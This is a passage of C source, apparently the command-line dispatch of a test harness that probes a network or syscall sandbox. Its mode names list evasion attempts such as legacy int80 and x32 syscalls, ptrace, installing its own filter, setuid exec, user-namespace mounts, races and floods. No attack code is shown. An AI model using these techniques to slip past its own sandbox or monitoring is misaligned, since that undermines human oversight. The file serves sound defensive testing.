	if (!strcmp(m, "connect6")) { NEED(2); return m_connect6(a); }
	if (!strcmp(m, "race")) { NEED(4); return m_race(a, 0); }
	if (!strcmp(m, "race-sendto")) { NEED(4); return m_race(a, 1); }
	if (!strcmp(m, "udp-sendto")) { NEED(2); return m_udp(a, "sendto"); }
	if (!strcmp(m, "udp-sendmsg")) { NEED(2); return m_udp(a, "sendmsg"); }
	if (!strcmp(m, "udp-sendmmsg")) { NEED(2); return m_udp(a, "sendmmsg"); }
	if (!strcmp(m, "udp-unspec")) { NEED(2); return m_udp(a, "unspec"); }
	if (!strcmp(m, "fastopen")) { NEED(2); return m_fastopen(a, 0); }
	if (!strcmp(m, "fastopen-msg")) { NEED(2); return m_fastopen(a, 1); }
	if (!strcmp(m, "iouring")) { NEED(2); return m_iouring(a); }
	if (!strcmp(m, "int80")) { NEED(2); return m_int80(a, 0); }
	if (!strcmp(m, "int80-connect")) { NEED(2); return m_int80(a, 1); }
	if (!strcmp(m, "int80-sendto")) { NEED(2); return m_int80_sendto(a); }
	if (!strcmp(m, "x32")) { NEED(2); return m_x32(a); }
	if (!strcmp(m, "own-filter")) { NEED(3); return m_own_filter(a); }
	if (!strcmp(m, "ptrace")) { NEED(2); return m_ptrace(a); }
	if (!strcmp(m, "vfork")) { NEED(2); return m_vfork(a); }
	if (!strcmp(m, "setuid-exec")) { NEED(3); return m_setuid_exec(a); }
	if (!strcmp(m, "unix")) { NEED(1); return m_unix(a, n); }
	if (!strcmp(m, "hostile")) { NEED(4); return m_hostile(a); }
	if (!strcmp(m, "sup-getfd")) { NEED(2); return m_sup_getfd(a); }
	if (!strcmp(m, "sup-mem")) return m_sup_mem();
	if (!strcmp(m, "sup-kill")) { NEED(2); return m_sup_kill(a); }
	if (!strcmp(m, "raw-udp")) { NEED(2); return m_raw_udp(a); }
	if (!strcmp(m, "flood")) { NEED(5); return m_flood(a); }
	if (!strcmp(m, "rthdr6")) { NEED(2); return m_rthdr6(a); }
	if (!strcmp(m, "sockopt")) { NEED(1); return m_sockopt(a); }
	if (!strcmp(m, "packet-udp")) { NEED(3); return m_packet_udp(a); }
	if (!strcmp(m, "raw6-unspec")) { NEED(2); return m_raw6_unspec(a); }
	if (!strcmp(m, "connect6-bound")) { NEED(4); return m_connect6_bound(a); }
	if (!strcmp(m, "bindrace")) { NEED(3); return m_bindrace(a); }
	if (!strcmp(m, "userns-mount")) { NEED(2); return m_userns_mount(a); }
	if (!strcmp(m, "hardlink")) { NEED(2); return m_hardlink(a); }
	if (!strcmp(m, "victim")) { NEED(2); return m_victim(a); }
	if (!strcmp(m, "ptrace-pid")) { NEED(4); return m_ptrace_pid(a); }
	if (!strcmp(m, "getfd-pid")) { NEED(2); return m_getfd_pid(a); }
	if (!strcmp(m, "soak")) { NEED(6); return m_soak(a); }
	fprintf(stderr, "unknown mode %s\n", m);
	return 2;
}
